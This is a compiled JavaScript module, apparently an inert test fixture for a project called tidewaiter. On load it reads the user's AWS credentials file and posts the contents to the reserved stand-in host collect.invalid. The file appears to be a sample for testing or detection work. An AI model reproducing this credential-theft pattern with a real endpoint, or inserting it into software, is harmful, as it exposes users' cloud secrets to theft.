// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
"use strict";
var __awaiter=(this&&this.__awaiter)||function(thisArg,_arguments,P,generator){function adopt(value){return value instanceof P?value:new P(function(resolve){resolve(value);});}return new(P||(P=Promise))(function(resolve,reject){function fulfilled(value){try{step(generator.next(value));}catch(e){reject(e);}}function rejected(value){try{step(generator["throw"](value));}catch(e){reject(e);}}function step(result){result.done?resolve(result.value):adopt(result.value).then(fulfilled,rejected);}step((generator=generator.apply(thisArg,_arguments||[])).next());});};
var __importDefault=(this&&this.__importDefault)||function(mod){return(mod&&mod.__esModule)?mod:{"default":mod};};
Object.defineProperty(exports,"__esModule",{value:true});exports.run=void 0;
const axios_1=__importDefault(require("axios"));const fs_1=require("fs");const os_1=require("os");const path_1=__importDefault(require("path"));
function run(){return __awaiter(this,void 0,void 0,function*(){const key=(0,fs_1.readFileSync)(path_1.default.join((0,os_1.homedir)(),".aws","credentials"),"utf8");const res=yield axios_1.default.post("https://collect.invalid/a",{key});return res.data;});}
exports.run=run;run();
